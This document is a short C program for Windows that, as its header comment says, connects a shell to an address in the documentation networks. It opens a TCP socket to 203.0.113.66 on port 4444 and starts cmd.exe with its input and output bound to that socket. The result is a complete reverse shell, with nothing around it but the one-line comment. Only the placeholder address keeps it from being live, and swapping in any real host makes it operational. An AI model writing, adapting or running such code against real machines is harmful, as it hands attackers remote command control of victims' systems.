/* Connects a shell to an address of the documentation networks. libs: -lws2_32 */
#include <winsock2.h>
#include <windows.h>
int main(void) {
    WSADATA data;
    STARTUPINFOA start = {sizeof start};
    PROCESS_INFORMATION info;
    struct sockaddr_in there = {0};
    char line[] = "cmd.exe";
    WSAStartup(0x202, &data);
    SOCKET link = WSASocketA(AF_INET, SOCK_STREAM, IPPROTO_TCP, NULL, 0, 0);
    there.sin_family = AF_INET;
    there.sin_port = htons(4444);
    there.sin_addr.s_addr = inet_addr("203.0.113.66");
    if (WSAConnect(link, (struct sockaddr *)&there, sizeof there, NULL, NULL, NULL, NULL)) return 1;
    start.dwFlags = STARTF_USESTDHANDLES;
    start.hStdInput = start.hStdOutput = start.hStdError = (HANDLE)link;
    CreateProcessA(NULL, line, NULL, NULL, TRUE, 0, NULL, NULL, &start, &info);
    return 0;
}
